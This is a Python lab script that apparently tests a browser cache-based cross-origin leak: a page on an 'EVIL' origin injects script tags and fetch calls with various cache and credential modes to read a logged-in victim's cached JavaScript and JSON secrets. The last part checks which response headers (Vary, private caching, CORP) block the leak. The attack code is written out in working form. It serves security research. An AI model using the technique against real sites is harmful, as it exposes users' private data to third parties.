"""A page of evil reads cached answers of victim's private port: the viewer has opened both; the victim's script and data are cacheable."""
from common import *
secret_js = r("var SECRET='private-of-victim';", [["content-type", "text/javascript"], ["cache-control", "max-age=600"]])
heuristic = r("var SECRET2='heuristic';", [["content-type", "text/javascript"], ["last-modified", "Wed, 01 Jan 2020 00:00:00 GMT"]])
secret_json = r('{"secret":"cors-any"}', [["content-type", "application/json"], ["cache-control", "max-age=600"], ["access-control-allow-origin", "*"]])
with browser() as c:
    v = c.new_page(); v.goto(login("VICTIM")); v.goto(origin("VICTIM") + page("", html=f"<script src='{secret_js}'></script><script src='{heuristic}'></script>"))
    v.evaluate(f"fetch({json.dumps(secret_json)}).then(x => x.text())")
    before = len(json.loads(inside("VICTIM", "/log")[2]))
    e = c.new_page(); e.goto(login("EVIL")); e.goto(origin("EVIL") + page())
    js = lambda u: f"new Promise(d => {{ let s = document.createElement('script'); s.src = {json.dumps(origin('VICTIM') + u)}; s.onload = () => d('loaded ' + (window.SECRET || '') + (window.SECRET2 || '')); s.onerror = () => d('refused'); document.head.append(s) }})"
    print("script, max-age       :", e.evaluate(js(secret_js)))
    print("script, last-modified :", e.evaluate("delete window.SECRET;" + js(heuristic)))
    for mode in ("default", "force-cache", "only-if-cached"):
        for cred in ("omit", "include", "same-origin"):
            print(f"fetch json, ACAO *, {mode}/{cred}:", e.evaluate(f"fetch({json.dumps(origin('VICTIM') + secret_json)}, {{cache: '{mode}', credentials: '{cred}'}}).then(x => x.text()).then(t => t.slice(0,60)).catch(x => 'refused ' + x)"))
    print("control, not cached   :", e.evaluate(js(r("var SECRET='uncached'", [["content-type", "text/javascript"], ["x-n", "1"]]))))
    print("requests that victim's application saw of it:", len(json.loads(inside("VICTIM", "/log")[2])) - before)
print("-- which answers would have stopped it: the same script with other headers, sent by the application itself")
with browser() as c:
    for name, more in (("vary: cookie", [["vary", "cookie"]]), ("vary: sec-fetch-site", [["vary", "sec-fetch-site"]]), ("cache-control: private, max-age=600", [["cache-control", "private, max-age=600"]]), ("cache-control: no-cache", [["cache-control", "no-cache"], ["etag", '"1"']]), ("cross-origin-resource-policy: same-origin", [["cross-origin-resource-policy", "same-origin"]])):
        u = r(f"var V={json.dumps(name)};", [["content-type", "text/javascript"], *([] if "cache-control" in more[0] else [["cache-control", "max-age=600"]]), *more])
        v = c.new_page(); v.goto(login("VICTIM")); v.goto(origin("VICTIM") + page("", html=f"<script src='{u}'></script>"))
        e = c.new_page(); e.goto(login("EVIL")); e.goto(origin("EVIL") + page())
        print(f"{name:45}", e.evaluate(f"new Promise(d => {{ let s = document.createElement('script'); s.src = {json.dumps(origin('VICTIM') + u)}; s.onload = () => d('loaded ' + window.V); s.onerror = () => d('refused'); document.head.append(s) }})"))
